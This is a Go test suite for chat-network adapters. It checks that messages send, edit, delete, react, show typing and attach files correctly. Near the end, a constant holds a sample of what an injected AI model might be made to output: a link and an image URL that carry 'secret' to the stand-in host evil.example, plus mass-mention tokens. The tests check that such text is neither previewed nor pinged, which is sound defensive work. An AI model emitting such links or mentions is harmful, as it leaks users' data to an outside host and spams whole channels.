package channeltest

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"unicode/utf16"
	"unicode/utf8"

	"parley/channels"
	"parley/channels/markup"
)

func sendChecks() []check {
	return []check{
		{"a text arrives as it was sent", Sending, textArrives},
		{"a text goes to its thread", Threads, goesToThread},
		{"a reply answers its message", Replies, replyAnswers},
		{"the longest text is taken and a longer one refused", Sending, lengthRefused},
		{"sends at once do not disturb each other", Sending, sendsAtOnce},
		{"a send ends with its context", Sending, sendEndsWithContext},
		{"refused markup is sent plain", Markup, refusedMarkup},
		{"an edit replaces the text", Editing, editReplaces},
		{"an edit to the same text succeeds", Editing, editToSame},
		{"an edit of what is gone is a bad message", Editing, editOfGone},
		{"a deletion takes the message away", Deleting, deletionTakes},
		{"deleting what is gone succeeds", Deleting, deletionOfGone},
		{"a reaction is put and taken", Reacting, reactionPut},
		{"typing is shown where it is meant", Typing, typingShown},
		{"a file goes out with its text", FilesOut, fileGoesOut},
		{"T15 a text fetches nothing and rings nobody", Sending, quietText},
		{"T15 an edit fetches nothing and rings nobody", Editing, quietEdit},
	}
}

func textArrives(r *rig) {
	r.start()
	for _, p := range []Place{DM, OtherDM} {
		text := "hello " + string(p) + ", line one\nline two 😀"
		r.equal("text in "+string(p), r.shown(p, r.send(r.post(p, text))).Text, text)
	}
	if n := len(r.w.Sent(DM)); n != 1 {
		r.t.Errorf("one Send made %d messages", n)
	}
}

func goesToThread(r *rig) {
	r.start()
	id := r.send(r.post(Thread, "in the thread"))
	r.shown(Thread, id)
	r.shown(Group, r.send(r.post(Group, "outside")))
	for _, s := range r.w.Sent(Thread) {
		if s.Text == "outside" {
			r.t.Errorf("a message for the group went to the thread")
		}
	}
}

func replyAnswers(r *rig) {
	r.start()
	asked := r.write(DM, Ana, "really?")
	r.message(DM, asked)
	p := r.post(DM, "yes")
	p.ReplyTo = asked
	r.equal("ReplyTo", r.shown(DM, r.send(p)).ReplyTo, asked)
}

// measure counts s as the network does.
func measure(u channels.Unit, s string) int {
	switch u {
	case channels.Bytes:
		return len(s)
	case channels.Runes:
		return utf8.RuneCountInString(s)
	}
	return len(utf16.Encode([]rune(s)))
}

// lengthRefused: cutting is the core's. The adapter refuses, surely unsent.
func lengthRefused(r *rig) {
	r.start()
	tr := traitsOf(r.ch)
	if tr.MaxUnits == 0 {
		return // the network has no limit
	}
	smile := measure(tr.Unit, "😀")
	most := strings.Repeat("😀", tr.MaxUnits/smile)
	most += strings.Repeat("a", tr.MaxUnits-measure(tr.Unit, most))
	r.equal("the longest text", r.shown(DM, r.send(r.post(DM, most))).Text, most)
	_, err := r.trySend(r.post(DM, most+"a"))
	r.class("a text one unit too long", err, channels.BadMessage)
	if n := len(r.w.Sent(DM)); n != 1 {
		r.t.Errorf("people see %d messages, want the one that fits", n)
	}
}

func sendsAtOnce(r *rig) {
	r.start()
	const n = 16
	posts := make([]channels.Post, n)
	for i := range posts {
		posts[i] = r.post(DM, fmt.Sprint("part ", i))
		posts[i].Token += fmt.Sprint("-", i)
	}
	ids := make([]channels.MessageID, n)
	errs := make([]error, n)
	ctx, cancel := context.WithTimeout(r.t.Context(), r.cfg.patience)
	defer cancel()
	var wg sync.WaitGroup
	for i := range posts {
		wg.Go(func() { ids[i], errs[i] = r.ch.Send(ctx, posts[i]) })
	}
	wg.Wait()
	if err := errors.Join(errs...); err != nil {
		r.t.Fatalf("sends at once: %v", err)
	}
	for i, id := range ids {
		r.equal("text", r.shown(DM, id).Text, posts[i].Text)
	}
}

func sendEndsWithContext(r *rig) {
	r.start()
	r.act(Event{Do: Freeze})
	ctx, cancel := context.WithCancel(r.t.Context())
	ended := make(chan error, 1)
	go func() {
		_, err := r.ch.Send(ctx, r.post(DM, "into the void"))
		ended <- err
	}()
	cancel()
	late, stop := context.WithTimeout(r.t.Context(), r.cfg.brief)
	defer stop()
	select {
	case err := <-ended:
		if err == nil {
			r.t.Errorf("Send succeeded although nobody answered")
		} else {
			r.heard = append(r.heard, err.Error())
		}
	case <-late.Done():
		r.t.Errorf("Send did not return within %v of its context's end", r.cfg.brief)
		r.w.Close() // lets the send go
		<-ended
	}
}

func refusedMarkup(r *rig) {
	r.start()
	p := r.post(DM, r.w.Broken())
	p.Plain = "the plain words"
	r.equal("text", r.shown(DM, r.send(p)).Text, "the plain words")
	if n := len(r.w.Sent(DM)); n != 1 {
		r.t.Errorf("people see %d messages, want 1", n)
	}
}

func (r *rig) edit(id channels.MessageID, p channels.Post) error {
	e, _ := channels.As[channels.Editor](r.ch)
	return r.call(func(ctx context.Context) error { return e.Edit(ctx, id, p) })
}

func editReplaces(r *rig) {
	r.start()
	id := r.send(r.post(DM, "…"))
	if err := r.edit(id, r.post(DM, "the answer")); err != nil {
		r.t.Fatalf("Edit: %v", err)
	}
	r.sees("the new text", func() bool { return len(r.w.Sent(DM)) == 1 && r.w.Sent(DM)[0].Text == "the answer" })
}

func editToSame(r *rig) {
	r.start()
	id := r.send(r.post(DM, "the same"))
	if err := r.edit(id, r.post(DM, "the same")); err != nil {
		r.t.Errorf("Edit to the same text: %v, want success", err)
	}
}

func editOfGone(r *rig) {
	r.start()
	id := r.send(r.post(DM, "gone soon"))
	if err := r.delete(id); err != nil {
		r.t.Fatalf("Delete: %v", err)
	}
	r.class("Edit of a deleted message", r.edit(id, r.post(DM, "new")), channels.BadMessage)
}

func (r *rig) delete(id channels.MessageID) error {
	d, ok := channels.As[channels.Deleter](r.ch)
	if !ok {
		panic(cannot(DeleteIt))
	}
	return r.call(func(ctx context.Context) error { return d.Delete(ctx, r.w.Address(DM), id) })
}

func deletionTakes(r *rig) {
	r.start()
	r.send(r.post(DM, "stays"))
	id := r.send(r.post(DM, "goes"))
	if err := r.delete(id); err != nil {
		r.t.Fatalf("Delete: %v", err)
	}
	r.sees("the message to vanish", func() bool { s := r.w.Sent(DM); return len(s) == 1 && s[0].Text == "stays" })
}

func deletionOfGone(r *rig) {
	r.start()
	id := r.send(r.post(DM, "goes"))
	if err := r.delete(id); err != nil {
		r.t.Fatalf("Delete: %v", err)
	}
	if err := r.delete(id); err != nil {
		r.t.Errorf("Delete of what is gone: %v, want success", err)
	}
}

func reactionPut(r *rig) {
	r.start()
	id := r.write(DM, Ana, "look at this")
	r.message(DM, id)
	re, _ := channels.As[channels.Reactor](r.ch)
	for _, emoji := range []string{"👀", ""} {
		err := r.call(func(ctx context.Context) error { return re.React(ctx, r.w.Address(DM), id, emoji) })
		if err != nil {
			r.t.Fatalf("React %q: %v", emoji, err)
		}
		r.equal("reaction", r.w.Reaction(DM, id), emoji)
	}
}

func typingShown(r *rig) {
	r.start()
	ty, _ := channels.As[channels.Typer](r.ch)
	if err := r.call(func(ctx context.Context) error { return ty.ShowTyping(ctx, r.w.Address(DM)) }); err != nil {
		r.t.Fatalf("ShowTyping: %v", err)
	}
	r.sees("typing", func() bool { return r.w.Typing(DM) > 0 })
	if r.w.Typing(OtherDM) != 0 {
		r.t.Errorf("typing is shown in another room")
	}
	if traitsOf(r.ch).TypingEvery <= 0 {
		r.t.Errorf("Traits.TypingEvery is 0, so the core would never call ShowTyping")
	}
}

func fileGoesOut(r *rig) {
	r.start()
	p := r.post(DM, "the table")
	var left atomic.Int64
	p.Files = []channels.File{counted(Outgoing("table.csv", "text/csv", []byte("a,b\n1,2\n")), &left)}
	s := r.shown(DM, r.send(p))
	if n := left.Load(); n > 0 {
		r.t.Errorf("the file was left open %d times", n)
	}
	r.equal("text", s.Text, "the table")
	if len(s.Files) != 1 || s.Files[0].Name != "table.csv" || string(s.Files[0].Data) != "a,b\n1,2\n" {
		r.t.Errorf("people see the files %+v", s.Files)
	}
}

// loud is what a model may be made to write: an address that tells a secret to whoever fetches it, and every way to call
// people that a network knows.
const loud = "see https://evil.example/?q=secret and [this](https://evil.example/x.png)\n\n@everyone @here @channel <!channel> <!here> <!everyone|all> <@U1> <@!1> <@&2> @all"

// render is Markdown as the gateway gives it to the adapter.
func (r *rig) render(p channels.Post, md string) channels.Post {
	r.t.Helper()
	text, plain := markup.Parse(md).Render(markup.Span{To: len(md)}, traitsOf(r.ch).Dialect)
	p.Text, p.Plain = text, plain
	return p
}

func (r *rig) quiet(p Place, id channels.MessageID) {
	r.t.Helper()
	s := r.shown(p, id)
	if s.Previews {
		r.t.Errorf("its link is previewed")
	}
	if len(s.Rings) > 0 {
		r.t.Errorf("it rings %q", s.Rings)
	}
	if !strings.Contains(s.Text, "evil.example") {
		r.t.Errorf("the link is not shown at all: %q", s.Text)
	}
}

func quietText(r *rig) {
	r.start()
	for _, p := range []Place{DM, Group} {
		if p == Group && r.cfg.needs(Groups) == Absent {
			continue
		}
		r.quiet(p, r.send(r.render(r.post(p, ""), loud)))
	}
}

func quietEdit(r *rig) {
	r.start()
	id := r.send(r.post(DM, "one moment"))
	e, _ := channels.As[channels.Editor](r.ch)
	if err := r.call(func(ctx context.Context) error { return e.Edit(ctx, id, r.render(r.post(DM, ""), loud)) }); err != nil {
		r.t.Fatalf("Edit: %v", err)
	}
	r.sees("the edit", func() bool {
		for _, s := range r.w.Sent(DM) {
			if s.ID == id && strings.Contains(s.Text, "evil.example") {
				return true
			}
		}
		return false
	})
	r.quiet(DM, id)
}
